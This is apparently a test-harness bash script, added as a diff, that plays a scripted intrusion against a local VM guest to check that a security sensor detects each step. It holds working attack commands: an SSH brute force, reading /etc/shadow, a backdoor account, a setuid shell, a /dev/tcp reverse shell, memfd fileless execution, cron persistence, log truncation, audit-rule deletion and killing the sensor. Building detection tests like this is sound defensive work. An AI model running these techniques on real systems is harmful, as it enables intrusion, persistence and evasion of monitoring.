@@ -1,0 +1,332 @@
+#!/usr/bin/env bash
+# The scripted intrusion that `cargo xtask vm-test` plays against a guest,
+# run on the HOST. Each step appends "NAME<TAB>EPOCH_MS" to $STEPS right
+# before its action; xtask/src/vm_test/verify.rs knows the same names and
+# checks that the sensor in the guest reported each step.
+#
+# Environment (set by the harness):
+#   SSH_PORT        host port forwarded to the guest's sshd
+#   SSH_KEY         private key that logs in as root
+#   GUEST_USER      non-root user in group sudo (dev)
+#   GUEST_PASSWORD  its (weak) password
+#   LISTEN_PORT     host port this script listens on for the reverse shell;
+#                   the guest reaches the host as 10.0.2.2 (QEMU user net)
+#   STEPS           file the step lines are appended to
+#
+# Every action that must succeed is checked; a failure exits non-zero and
+# names the step, so that a broken scenario is not mistaken for a sensor
+# that saw nothing.
+
+# -E: functions inherit the ERR trap that names the failing step.
+set -Eeuo pipefail
+
+: "${SSH_PORT:?}" "${SSH_KEY:?}" "${GUEST_USER:?}" "${GUEST_PASSWORD:?}" "${LISTEN_PORT:?}" "${STEPS:?}"
+
+# The guest's view of the host (QEMU user networking).
+readonly HOST_IP=10.0.2.2
+# Names the verifier matches on: keep in step with verify.rs.
+readonly BACKDOOR_USER=backdoor
+readonly LOG_FILE=/var/log/dpkg.log
+readonly CONTAINER=scenario
+readonly IMAGE=localhost/busybox
+
+SSH_OPTS=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR
+          -o ConnectTimeout=10 -p "$SSH_PORT")
+PASSWORD_OPTS=(-o PreferredAuthentications=password -o PubkeyAuthentication=no
+               -o NumberOfPasswordPrompts=1)
+
+CURRENT=setup
+WORK=$(mktemp -d)
+LISTENER_PID=
+
+cleanup() {
+    if [[ -n $LISTENER_PID ]]; then
+        kill "$LISTENER_PID" 2>/dev/null || true
+    fi
+    rm -rf "$WORK"
+}
+trap cleanup EXIT
+# set -e stops at the first failing command; say which step it was in.
+trap 'echo "attack-scenario: step $CURRENT failed (line $LINENO)" >&2' ERR
+
+die() {
+    echo "attack-scenario: step $CURRENT failed: $*" >&2
+    exit 1
+}
+
+# Records the step's time (host clock, ms) before its action, so that the
+# verifier's latency is from the action to the collector's receipt.
+step() {
+    CURRENT=$1
+    printf '%s\t%s\n' "$1" "$(date +%s%3N)" >>"$STEPS"
+    echo "attack-scenario: $1" >&2
+}
+
+# Runs the bash script on stdin as root in the guest, arguments as $1….
+# The script comes on stdin (no quoting through ssh's command line), so
+# commands in it that read stdin must take </dev/null.
+as_root() {
+    timeout 180 ssh "${SSH_OPTS[@]}" -i "$SSH_KEY" -o BatchMode=yes root@127.0.0.1 \
+        bash -euo pipefail -s -- "$@"
+}
+
+# How many connections the host listener has accepted.
+accepted() {
+    grep -c '^accepted' "$WORK/listener.log" || true
+}
+
+# A listener for the reverse shell and the container's connection: it
+# accepts, logs, tells the shell to exit (so the guest side ends on its
+# own), reads what comes back for a few seconds and closes.
+start_listener() {
+    python3 - "$LISTEN_PORT" "$WORK/listener.log" <<'PY' &
+import socket, sys
+port, log = int(sys.argv[1]), open(sys.argv[2], "a", buffering=1)
+s = socket.socket()
+s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("127.0.0.1", port))
+s.listen(8)
+log.write("listening\n")
+while True:
+    c, peer = s.accept()
+    log.write("accepted %s:%d\n" % peer)
+    c.settimeout(3)
+    try:
+        c.sendall(b"exit\n")
+        while c.recv(4096):
+            pass
+    except OSError:
+        pass
+    c.close()
+PY
+    LISTENER_PID=$!
+    for _ in $(seq 50); do
+        grep -q '^listening' "$WORK/listener.log" 2>/dev/null && return 0
+        kill -0 "$LISTENER_PID" 2>/dev/null || die "the listener on port $LISTEN_PORT exited"
+        sleep 0.1
+    done
+    die "the listener on port $LISTEN_PORT did not start"
+}
+
+# Waits until the listener has accepted more than $1 connections.
+wait_accepted() {
+    for _ in $(seq 100); do
+        (($(accepted) > $1)) && return 0
+        sleep 0.1
+    done
+    die "the host listener accepted no connection from the guest"
+}
+
+# Not a step: leftovers of an earlier run go, the log file to truncate has
+# content, and an audit rule exists for `auditctl -D` to delete (with no
+# rules it deletes nothing and the kernel reports no change).
+prepare() {
+    as_root "$BACKDOOR_USER" "$CONTAINER" "$LOG_FILE" <<'EOF'
+for tool in perl podman setcap getcap auditctl busybox useradd; do
+    command -v "$tool" >/dev/null || { echo "guest lacks $tool" >&2; exit 1; }
+done
+userdel -r "$1" >/dev/null 2>&1 || true
+podman rm -f -t 0 "$2" >/dev/null 2>&1 || true
+rm -f /etc/cron.d/scenario /tmp/.sh /tmp/.ping
+echo "scenario: a line for the log truncation" >>"$3"
+auditctl -d always,exit -F arch=b64 -S mknodat -k scenario >/dev/null 2>&1 || true
+auditctl -a always,exit -F arch=b64 -S mknodat -k scenario >/dev/null
+EOF
+}
+
+bruteforce() {
+    step ssh_bruteforce
+    local i rc out
+    for i in 1 2 3 4; do
+        rc=0
+        out=$(SSHPASS="wrong-password-$i" timeout 30 sshpass -e ssh "${SSH_OPTS[@]}" "${PASSWORD_OPTS[@]}" \
+            "$GUEST_USER@127.0.0.1" true </dev/null 2>&1) || rc=$?
+        # One prompt per connection: ssh gives up with "Permission denied"
+        # (sshpass exits 5 if it sees a second prompt). Anything else means
+        # the attempt never reached the password check.
+        if ((rc == 0)) || { ((rc != 5)) && [[ $out != *"Permission denied"* ]]; }; then
+            die "wrong password attempt $i was not refused by the password check (exit $rc): $out"
+        fi
+    done
+}
+
+# A password login whose session, once open, runs sudo with the password:
+# the session's stdin is a fifo, so that the sudo step's time can be taken
+# after the login and before sudo.
+login_and_sudo() {
+    step ssh_login
+    mkfifo "$WORK/in"
+    SSHPASS="$GUEST_PASSWORD" timeout 90 sshpass -e ssh "${SSH_OPTS[@]}" "${PASSWORD_OPTS[@]}" \
+        "$GUEST_USER@127.0.0.1" 'echo scenario-logged-in; read -r go; sudo -S -p "" cat /etc/shadow' \
+        <"$WORK/in" >"$WORK/session.out" 2>&1 &
+    local session=$!
+    exec 3>"$WORK/in"
+    local i
+    for i in $(seq 300); do
+        grep -q scenario-logged-in "$WORK/session.out" && break
+        kill -0 "$session" 2>/dev/null || die "the password login ended: $(cat "$WORK/session.out")"
+        ((i < 300)) || die "no shell within 30 s of the password login"
+        sleep 0.1
+    done
+
+    step sudo_root
+    printf 'go\n%s\n' "$GUEST_PASSWORD" >&3
+    exec 3>&-
+    wait "$session" || die "sudo cat /etc/shadow: $(cat "$WORK/session.out")"
+    grep -q '^root:' "$WORK/session.out" || die "sudo did not read /etc/shadow: $(cat "$WORK/session.out")"
+}
+
+backdoor_account() {
+    step backdoor_account
+    as_root "$BACKDOOR_USER" <<'EOF'
+useradd -m -s /bin/bash "$1"
+# Not a usable key: the point is the write, not a way in.
+echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIScenarioBackdoorKeyNotAUsableKey00000 $1@scenario" \
+    >>/root/.ssh/authorized_keys
+id "$1" >/dev/null
+EOF
+}
+
+setuid_shell() {
+    step setuid_shell
+    as_root <<'EOF'
+cp /bin/bash /tmp/.sh
+chmod u+s /tmp/.sh
+[ "$(stat -c %a /tmp/.sh)" = 4755 ]
+EOF
+}
+
+file_capability() {
+    step file_capability
+    as_root <<'EOF'
+cp "$(command -v busybox)" /tmp/.ping
+setcap cap_net_raw+ep /tmp/.ping
+# Captured, not piped into grep -q: under pipefail an early exit of grep
+# could fail the pipeline with SIGPIPE.
+caps=$(getcap /tmp/.ping)
+[[ $caps == *cap_net_raw* ]]
+EOF
+}
+
+reverse_shell() {
+    local before
+    before=$(accepted)
+    step reverse_shell
+    # The listener sends `exit`, so the interactive shell ends by itself;
+    # the timeout only bounds a listener that does not.
+    as_root "$HOST_IP" "$LISTEN_PORT" <<'EOF'
+rc=0
+timeout 10 bash -c "bash -i >& /dev/tcp/$1/$2 0>&1" </dev/null || rc=$?
+[ "$rc" = 0 ] || [ "$rc" = 124 ] || { echo "reverse shell exited $rc" >&2; exit 1; }
+EOF
+    wait_accepted "$before"
+}
+
+# perl (perl-base; no python in the guest) creates a memfd, copies echo's
+# ELF into it and execs it through /proc/self/fd: nothing runs from disk.
+memfd_exec() {
+    step memfd_exec
+    local out
+    out=$(as_root <<'EOF'
+perl - <<'PERL'
+use strict;
+# x86_64 syscall numbers; aarch64 guests would need 279 and 64.
+my ($SYS_memfd_create, $SYS_write) = (319, 1);
+my $name = "scenario";
+my $fd = syscall($SYS_memfd_create, $name, 0);
+die "memfd_create: $!" if $fd < 0;
+open(my $in, "<:raw", "/bin/echo") or die "open /bin/echo: $!";
+my $elf = do { local $/; <$in> };
+close $in;
+for (my $off = 0; $off < length $elf;) {
+    my $chunk = substr($elf, $off);
+    my $n = syscall($SYS_write, $fd, $chunk, length $chunk);
+    die "write: $!" if $n <= 0;
+    $off += $n;
+}
+exec {"/proc/self/fd/$fd"} "echo", "scenario-memfd-ran" or die "exec: $!";
+PERL
+EOF
+)
+    [[ $out == *scenario-memfd-ran* ]] || die "the program in the memfd did not run: $out"
+}
+
+cron_persistence() {
+    step cron_persistence
+    as_root <<'EOF'
+echo '*/5 * * * * root /tmp/.sh -p -c true' >/etc/cron.d/scenario
+EOF
+}
+
+log_truncation() {
+    step log_truncation
+    as_root "$LOG_FILE" <<'EOF'
+truncate -s 0 "$1"
+[ ! -s "$1" ]
+EOF
+}
+
+audit_rules_deleted() {
+    step audit_rules_deleted
+    as_root <<'EOF'
+auditctl -D >/dev/null
+[ "$(auditctl -l)" = "No rules" ]
+EOF
+}
+
+container_activity() {
+    # Started before the step: the step is what happens inside it.
+    as_root "$CONTAINER" "$IMAGE" <<'EOF'
+podman run -d --name "$1" "$2" sleep 600 >/dev/null </dev/null
+EOF
+    local before
+    before=$(accepted)
+    step container_activity
+    as_root "$CONTAINER" "$HOST_IP" "$LISTEN_PORT" <<'EOF'
+# In / (the image may have no /tmp); nc ends when the listener closes.
+podman exec "$1" sh -c "touch /scenario-suid; chmod 4755 /scenario-suid; \
+    echo scenario-in-container | nc $2 $3" </dev/null
+podman exec "$1" sh -c '[ -u /scenario-suid ]' </dev/null
+EOF
+    wait_accepted "$before"
+    as_root "$CONTAINER" <<'EOF'
+podman rm -f -t 0 "$1" >/dev/null </dev/null
+EOF
+}
+
+# Last: the sensor is killed (systemd restarts it). Its restart is waited
+# for, so that the harness collects from a running sensor afterwards.
+sensor_kill() {
+    step sensor_kill
+    as_root <<'EOF'
+old=$(pidof sensor) || { echo "no sensor process" >&2; exit 1; }
+kill -TERM $old
+for _ in $(seq 60); do
+    new=$(pidof sensor || true)
+    if [ -n "$new" ] && [ "$new" != "$old" ]; then exit 0; fi
+    sleep 0.5
+done
+echo "attack-scenario: warning: the sensor did not come back within 30 s" >&2
+EOF
+}
+
+main() {
+    start_listener
+    prepare
+    bruteforce
+    login_and_sudo
+    backdoor_account
+    setuid_shell
+    file_capability
+    reverse_shell
+    memfd_exec
+    cron_persistence
+    log_truncation
+    audit_rules_deleted
+    container_activity
+    sensor_kill
+    CURRENT=done
+    echo "attack-scenario: all steps played" >&2
+}
+
+main "$@"
